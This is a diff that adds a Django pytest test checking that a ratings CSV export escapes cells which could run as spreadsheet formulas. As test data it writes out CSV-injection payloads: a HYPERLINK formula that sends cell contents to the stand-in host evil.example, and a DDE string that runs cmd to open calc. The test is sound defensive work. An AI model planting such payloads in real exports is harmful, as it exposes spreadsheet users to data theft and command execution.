@@ -320,3 +320,24 @@ def test_an_advisor_who_answered_keeps_seeing_the_results_after_leaving(client, 
     assert client.get(f"/assessment/rounds/{assessment_round.pk}/results/").status_code == 200
     client.force_login(world.other_expert.user)
     assert client.get(f"/assessment/rounds/{assessment_round.pk}/results/").status_code == 404
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_cell_of_the_ratings_csv_can_run_as_a_formula(client, setup, prefix):
+    world, advisor, assessment_round, indicators = setup
+    assessment_round.title = f'{prefix}HYPERLINK("https://evil.example/?"&A1)'
+    assessment_round.save()
+    services.ratings_save(
+        actor=world.staff_a,
+        assessment_round=assessment_round,
+        answers={indicators[0].key: (3, "x")},
+    )
+    # The form strips outer whitespace; the admin or an import might not, so store it as is.
+    Rating.objects.filter(round=assessment_round).update(evidence=f"{prefix}cmd|' /C calc'!A0")
+    client.force_login(world.staff_a)
+    response = client.get(f"/assessment/rounds/{assessment_round.pk}/ratings.csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
+    assert rows[1][0] == f'\'{prefix}HYPERLINK("https://evil.example/?"&A1)'
+    assert rows[1][-1] == f"'{prefix}cmd|' /C calc'!A0"
+    assert [cell for row in rows for cell in row if cell[:1] in "=+-@\t\r"] == []
